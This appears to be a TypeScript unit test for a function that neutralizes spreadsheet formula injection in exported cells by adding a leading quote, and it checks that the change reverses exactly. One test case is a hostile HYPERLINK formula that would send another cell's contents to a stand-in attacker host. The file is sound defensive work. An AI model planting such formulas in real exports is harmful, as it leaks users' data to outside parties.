import assert from "node:assert/strict";
import { test } from "node:test";
import { neutralizeCell, neutralizeRows, unneutralizeCell } from "./formula-cells.js";

test("formula cells get a leading quote; the mapping reverses exactly", () => {
  const cases: Array<[string, string]> = [
    ['=HYPERLINK("https://evil.example/?"&D2,"x")', `'=HYPERLINK("https://evil.example/?"&D2,"x")`],
    ["+1+1", "'+1+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["'=1", "''=1"], // already quoted: doubled, so import gives back "'=1"
    ["''+x", "'''+x"],
    ["plain", "plain"],
    ["it's = fine", "it's = fine"],
    ["'quoted", "'quoted"],
    ["", ""],
  ];
  for (const [raw, safe] of cases) {
    assert.equal(neutralizeCell(raw), safe, JSON.stringify(raw));
    assert.equal(unneutralizeCell(safe), raw, `round trip of ${JSON.stringify(raw)}`);
  }
  assert.deepEqual(
    neutralizeRows([
      ["a", "=b"],
      ["-c", "d"],
    ]),
    {
      rows: [
        ["a", "'=b"],
        ["'-c", "d"],
      ],
      count: 2,
    },
  );
});
